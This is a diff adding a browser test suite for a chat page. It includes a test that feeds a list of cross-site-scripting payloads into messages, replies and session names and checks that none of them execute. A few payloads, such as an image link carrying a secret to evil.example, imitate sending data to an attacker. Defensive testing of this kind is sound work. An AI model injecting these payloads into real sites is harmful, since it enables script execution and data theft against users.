@@ -1,0 +1,119 @@
+import { assert, assertEquals } from "@std/assert";
+import { build } from "../../src/cli/build_page.ts";
+import { endBrowserAfterAll, isQuiet, pageTest, say } from "../support/page.ts";
+import { withServer } from "../support/server.ts";
+
+endBrowserAfterAll();
+
+/** Ways to have a page run what somebody else wrote; each would set `globalThis.broken`. */
+const PAYLOADS = [
+  "<script>broken=1</script>",
+  "<img src=x onerror=broken=1>",
+  "<svg onload=broken=1>",
+  "<svg><script>broken=1</script></svg>",
+  "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
+  "<a href='javascript:broken=1' id=pwn>click</a>",
+  "[click](javascript:broken=1)",
+  "[click](  JaVaScRiPt:broken=1)",
+  "[click](data:text/html,<script>opener.broken=1</script>)",
+  '![x](x"onerror="broken=1)',
+  "<math><mtext><table><mglyph><style><img src=x onerror=broken=1>",
+  "<details open ontoggle=broken=1>",
+  "<input autofocus onfocus=broken=1>",
+  "<form action='javascript:broken=1'><button>go</button></form>",
+  "<style>@import 'https://evil.example/x.css';</style>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<base href=https://evil.example/>",
+  "<meta http-equiv=refresh content='0;url=javascript:broken=1'>",
+  "```html\n<script>broken=1</script>\n```",
+  '```"><img src=x onerror=broken=1>\ncode\n```',
+  "<div style='background:url(https://evil.example/x)'>x</div>",
+  "<object data='javascript:broken=1'></object>",
+  "![steal](https://evil.example/?secret)",
+  "<noscript><p title='</noscript><img src=x onerror=broken=1>'>",
+] as const;
+
+pageTest(
+  "law 7: script in a message, a reply or a name does not run, and loads nothing from elsewhere",
+  async (visitor) => {
+    await withServer(async ({ url, claude }) => {
+      const page = await visitor.open(`${url}/?session=xss`);
+      for (const payload of PAYLOADS) {
+        claude.script.push({ kind: "reply", text: `Reply ${payload}` });
+        await say(page, `Say ${payload}`);
+        await isQuiet(page);
+      }
+      await fetch(`${url}/v1/sessions/xss`, {
+        method: "PATCH",
+        body: JSON.stringify({ name: "<img src=x onerror=broken=1>" }),
+      }).then((response) => response.body?.cancel());
+      await page.getByRole("heading", { name: "<img src=x onerror=broken=1>", level: 1 }).waitFor();
+      await page.reload();
+      await isQuiet(page);
+      await page.getByRole("link", { name: "click" }).first().click({ timeout: 2_000 })
+        .catch(() => {});
+      assertEquals(await page.evaluate("globalThis.broken"), undefined);
+      assertEquals(new URL(page.url()).origin, url);
+      const hrefs = await page.locator(".prose a").evaluateAll((links) =>
+        links.map((link) => link.getAttribute("href") ?? "")
+      );
+      assertEquals(hrefs.filter((href) => /^\s*(javascript|data):/i.test(href)), []);
+      visitor.failures.splice(
+        0,
+        Infinity,
+        ...visitor.failures.filter((failure) => !/Content Security Policy/.test(failure)),
+      );
+    });
+  },
+);
+
+pageTest(
+  "5,000 turns: the page holds only what is seen of them, and gets to the first one",
+  async (visitor) => {
+    await withServer(async ({ url }) => {
+      const at = "2026-01-01T00:00:00Z";
+      const lines = Array.from({ length: 10_000 }, (_, index) =>
+        JSON.stringify({
+          role: index % 2 === 0 ? "user" : "assistant",
+          text: `${index % 2 === 0 ? "Message" : "Reply"} ${index >> 1}. ${
+            "word ".repeat(index % 23)
+          }`,
+          at,
+        }));
+      const imported = await fetch(`${url}/v1/sessions/long/import`, {
+        method: "POST",
+        body: lines.join("\n"),
+      });
+      assertEquals(imported.status, 201, await imported.text());
+      const page = await visitor.open(`${url}/?session=long`);
+      await page.getByText("Reply 4999.").first().waitFor();
+      const held = () => page.locator(".entry").count();
+      assert(await held() < 80, `${await held()} turns are in the page`);
+      const scroller = page.locator(".log");
+      for (let round = 0; round < 40; round++) {
+        await scroller.evaluate((each) => each.scrollTop = 0);
+        if (await page.getByText("Message 0.", { exact: false }).count() > 0) break;
+        await page.getByText("Loading what came before").waitFor({ state: "detached" });
+      }
+      assert(await held() < 80, `${await held()} turns are in the page`);
+      await page.getByRole("button", { name: "Go to the newest message" }).click();
+      await page.getByText("Reply 4999.").first().waitFor();
+      assert(await held() < 80, `${await held()} turns are in the page`);
+    });
+  },
+);
+
+Deno.test("the page's first load is less than 60 KB gzipped, the highlighter apart", async () => {
+  await build();
+  const dist = new URL("../../dist/", import.meta.url);
+  const html = await Deno.readTextFile(new URL("index.html", dist));
+  const paths = Array.from(html.matchAll(/"\/(assets\/[^"]+)"/g), ([, path = ""]) => path);
+  let bytes = 0;
+  for (const path of ["index.html", ...paths]) {
+    const file = await Deno.readFile(new URL(path, dist));
+    const zipped = new Blob([file]).stream().pipeThrough(new CompressionStream("gzip"));
+    bytes += (await new Response(zipped).arrayBuffer()).byteLength;
+  }
+  assert(paths.length >= 2);
+  assert(bytes < 60 * 1_024, `${bytes} bytes`);
+});
